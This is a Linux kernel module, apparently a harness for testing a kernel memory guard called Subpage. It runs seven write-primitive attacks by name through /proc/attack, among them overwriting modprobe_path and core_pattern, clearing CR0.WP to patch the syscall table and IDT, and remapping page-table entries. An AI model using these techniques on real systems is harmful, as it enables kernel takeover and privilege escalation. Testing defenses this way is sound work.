// SPDX-License-Identifier: GPL-2.0-only
/*
 * What an attacker does who runs code in the kernel: seven ways to take it over, each asked for by
 * its name in a write to /proc/attack. A read of /proc/attack tells what became of the last one.
 *
 * The store itself is made by a function of the kernel, as by an exploit that has no code of its own.
 */
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/pgtable.h>
#include <asm/special_insns.h>

static unsigned long (*address_of)(const char *name);
static long (*store)(void *to, const void *from, size_t bytes);
static char report[128];

/* Not exported, but a probe is told where a symbol lies. A disabled one changes no code. */
static int find_symbols(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name", .flags = KPROBE_FLAG_DISABLED };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	address_of = (void *)probe.addr;
	unregister_kprobe(&probe);
	store = (void *)address_of("copy_to_kernel_nofault");
	return store ? 0 : -ENOENT;
}

static void tell(const char *name, u64 before, u64 after)
{
	snprintf(report, sizeof(report), "%s: %s, %016llx -> %016llx\n", name,
		 before == after ? "unchanged" : "changed", before, after);
}

static u64 text(const char *eight)
{
	u64 value = 0;

	memcpy(&value, eight, strnlen(eight, sizeof(value)));
	return value;
}

/* One store of eight bytes through `way`, of which `place` shows whether it has come there. */
static void overwrite(const char *name, u64 *place, void *way, u64 value)
{
	u64 before = READ_ONCE(*place);

	store(way, &value, sizeof(value));
	tell(name, before, READ_ONCE(*place));
}

/* The same, where the kernel may only read: with CR0.WP clear that does not matter. */
static void overwrite_read_only(const char *name, u64 *place, u64 value)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = native_read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	overwrite(name, place, place, value);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static int modprobe_path_itself(const char *name)
{
	u64 *place = (void *)address_of("modprobe_path");

	if (!place)
		return -ENOENT;
	overwrite(name, place, place, text("/tmp/a"));
	return 0;
}

static int core_pattern(const char *name)
{
	u64 *place = (void *)address_of("core_pattern");

	if (!place)
		return -ENOENT;
	overwrite(name, place, place, text("|/tmp/b"));
	return 0;
}

/* The entry of a call that no longer exists, so that nothing happens if it succeeds. */
static int system_call(const char *name)
{
	u64 *table = (void *)address_of("sys_call_table");

	if (!table)
		return -ENOENT;
	overwrite_read_only(name, table + 156, (u64)store);
	return 0;
}

/* The gate of a vector that nobody uses. The table is mapped where SIDT says, to be read only. */
static int interrupt_gate(const char *name)
{
	struct desc_ptr table;
	u64 *gate;

	asm volatile("sidt %0" : "=m"(table));
	gate = (u64 *)(table.address + 0x81 * sizeof(gate_desc));
	overwrite_read_only(name, gate, READ_ONCE(*gate) ^ 0x10000);
	return 0;
}

/* A second address for the page of modprobe_path, by the kernel's own means. */
static int alias(const char *name)
{
	u64 *place = (void *)address_of("modprobe_path");
	struct page *page;
	void *mapped;

	if (!place)
		return -ENOENT;
	page = pfn_to_page(__pa(place) >> PAGE_SHIFT);
	mapped = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!mapped)
		return -ENOMEM;
	overwrite(name, place, mapped + offset_in_page(place), text("/tmp/c"));
	vunmap(mapped);
	return 0;
}

static void forget(const void *address)
{
	asm volatile("invlpg (%0)" : : "r"(address) : "memory");
}

/* A page-table entry of the module's own leads to the page of modprobe_path. */
static int own_entry(const char *name)
{
	u64 *place = (void *)address_of("modprobe_path");
	unsigned int level;
	void *own;
	pte_t *entry, old;

	if (!place)
		return -ENOENT;
	own = vmalloc(PAGE_SIZE);
	if (!own)
		return -ENOMEM;
	entry = lookup_address((unsigned long)own, &level);
	if (!entry || level != PG_LEVEL_4K) {
		vfree(own);
		return -EFAULT;
	}
	old = READ_ONCE(*entry);
	WRITE_ONCE(*entry, pfn_pte(__pa(place) >> PAGE_SHIFT, PAGE_KERNEL));
	forget(own);
	overwrite(name, place, own + offset_in_page(place), text("/tmp/d"));
	WRITE_ONCE(*entry, old);
	forget(own);
	vfree(own);
	return 0;
}

/*
 * The entry by which the processor finds modprobe_path shall lead to another page. Not a byte of
 * modprobe_path is written. If it succeeds the entry is put back at once: the page has other data.
 */
static int entry_of_modprobe_path(const char *name)
{
	u64 *place = (void *)address_of("modprobe_path");
	u64 *tables = (void *)address_of("level2_kernel_pgt");
	unsigned long at = (unsigned long)place, flags;
	unsigned int level, i;
	u64 *table, *other, *entry, old, evil, before, after;
	pte_t *found;

	if (!place || !tables)
		return -ENOENT;
	entry = tables + pmd_index(at);
	found = lookup_address(at, &level);
	table = (void *)get_zeroed_page(GFP_KERNEL);
	other = (void *)get_zeroed_page(GFP_KERNEL);
	if (!found || !table || !other) {
		free_page((unsigned long)table);
		free_page((unsigned long)other);
		return -ENOMEM;
	}
	local_irq_save(flags);
	for (i = 0; i < PTRS_PER_PTE; i++)
		table[i] = level == PG_LEVEL_2M ?
			(((__pa(at) & PMD_MASK) >> PAGE_SHIFT) + i) << PAGE_SHIFT |
				pgprot_val(PAGE_KERNEL) :
			pte_val(found[(int)i - (int)pte_index(at)]);
	memcpy(other, (void *)(at & PAGE_MASK), PAGE_SIZE);
	other[offset_in_page(at) / sizeof(u64)] = text("/tmp/e");
	table[pte_index(at)] = __pa(other) | pgprot_val(PAGE_KERNEL);
	old = READ_ONCE(*entry);
	evil = __pa(table) | _KERNPG_TABLE;
	before = READ_ONCE(*place);
	store(entry, &evil, sizeof(evil));
	forget(place);
	after = READ_ONCE(*place);
	if (READ_ONCE(*entry) != old) {
		store(entry, &old, sizeof(old));
		forget(place);
	}
	local_irq_restore(flags);
	tell(name, before, after);
	free_page((unsigned long)table);
	free_page((unsigned long)other);
	return 0;
}

static const struct {
	const char *name;
	int (*run)(const char *name);
} attacks[] = {
	{ "modprobe_path", modprobe_path_itself },
	{ "core_pattern", core_pattern },
	{ "system_call", system_call },
	{ "interrupt_gate", interrupt_gate },
	{ "alias", alias },
	{ "own_entry", own_entry },
	{ "entry_of_modprobe_path", entry_of_modprobe_path },
};

static ssize_t asked(struct file *file, const char __user *from, size_t bytes, loff_t *at)
{
	char name[32];
	unsigned int i;
	int error;

	if (bytes >= sizeof(name))
		return -EINVAL;
	if (copy_from_user(name, from, bytes))
		return -EFAULT;
	name[bytes] = 0;
	strim(name);
	for (i = 0; i < ARRAY_SIZE(attacks); i++) {
		if (strcmp(name, attacks[i].name))
			continue;
		error = attacks[i].run(attacks[i].name);
		return error ? error : bytes;
	}
	return -EINVAL;
}

static ssize_t told(struct file *file, char __user *to, size_t bytes, loff_t *at)
{
	return simple_read_from_buffer(to, bytes, at, report, strlen(report));
}

static const struct proc_ops operations = { .proc_write = asked, .proc_read = told };

static int __init begin(void)
{
	int error = find_symbols();

	if (error)
		return error;
	return proc_create("attack", 0600, NULL, &operations) ? 0 : -ENOMEM;
}

static void __exit end(void)
{
	remove_proc_entry("attack", NULL);
}

module_init(begin);
module_exit(end);
MODULE_DESCRIPTION("Attacks on a kernel whose memory Subpage guards");
MODULE_LICENSE("GPL");
